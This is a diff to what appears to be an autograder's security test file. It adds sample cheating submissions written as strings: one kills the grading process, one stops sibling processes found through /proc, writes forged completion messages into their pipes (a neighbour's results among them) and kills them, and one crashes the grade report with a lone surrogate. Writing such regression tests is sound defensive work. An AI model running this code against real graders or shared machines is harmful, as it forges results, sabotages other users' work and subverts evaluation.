@@ -269,7 +269,7 @@ def serve(workload, num_gpu_blocks, block_size=4, num_cpu_blocks=0, **config):
 # Issue 46, item 1 (the review's C01, C02, C25, C23, C24, C03, C04): cheats that worked because
 # the checks ran in the submission's own interpreter. Each got an undeserved grade or leaked an
 # instructor's check before the judge moved out of that interpreter (each was seen doing so), and
-# each gets past the rules of then and now. The stored outputs they copy are those of the student
+# each got past the rules of then; most are refused since (C27, C28), so their test lets them past. The stored outputs they copy are those of the student
 # copy, which keeps every expected output (C26).
 
 
@@ -442,3 +442,72 @@ def _lib(fn, *args):
     thread.join()
     return out[0] if out else None
 """ + _DELEGATES
+
+# The review's C18 and C17 at the process level (no bubblewrap, so the submission's process runs
+# beside the grader and the other submissions): kill the grader, its parent; or stop each process
+# the grader started beside it (its own judge, a neighbour's judge and submission's process),
+# write an early end into every pipe they and the grader hold (the neighbour's results among
+# them), and kill them. Only the grader's own children are touched (other graders may run here).
+KILLS_THE_GRADER = """# PAST_THE_RULES
+import os
+os.kill(os.getppid(), 9)
+"""
+STOPS_AND_FORGES_A_NEIGHBOUR = """# PAST_THE_RULES
+import os, signal, time
+me, grader = os.getpid(), os.getppid()
+
+
+def siblings():
+    found = []
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            with open(f"/proc/{pid}/stat") as f:
+                parent = int(f.read().rsplit(")", 1)[1].split()[1])
+        except (OSError, IndexError, ValueError):
+            continue
+        if parent == grader and int(pid) != me:
+            found.append(int(pid))
+    return found
+
+
+end = time.time() + 60
+while len(siblings()) < 3 and time.time() < end:  # its judge, and a neighbour's two processes
+    time.sleep(0.05)
+done = []
+for pid in siblings():
+    try:
+        os.kill(pid, signal.SIGSTOP)
+        done.append(f"stopped {pid}")
+    except OSError as err:
+        done.append(f"stop {pid}: {err.strerror}")
+for pid in [*siblings(), grader]:
+    try:
+        fds = os.listdir(f"/proc/{pid}/fd")
+    except OSError as err:
+        done.append(f"fds of {pid}: {err.strerror}")
+        continue
+    for fd in fds:
+        try:
+            if os.readlink(f"/proc/{pid}/fd/{fd}").startswith("pipe:"):
+                out = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
+                os.write(out, b'{"done": true}\\n')
+                os.close(out)
+                done.append(f"forged into {pid}/{fd}")
+        except OSError:
+            pass
+for pid in siblings():
+    try:
+        os.kill(pid, signal.SIGKILL)
+    except OSError:
+        pass
+print(done)
+"""
+
+# The review of the channel (issue 46, item 1): an honest-looking cell whose error message holds a
+# lone surrogate (a string escape the rules have no reason to refuse). The message crossed the
+# channel and the judge's results as JSON escapes, and the grader's report printed it: UTF-8
+# cannot encode it, so the command ended after grading, with no gradebook and no JSON.
+LONE_SURROGATE = '''
+def block_stats(x, block_size):
+    raise ValueError("no stats \\ud800 for you")
+'''
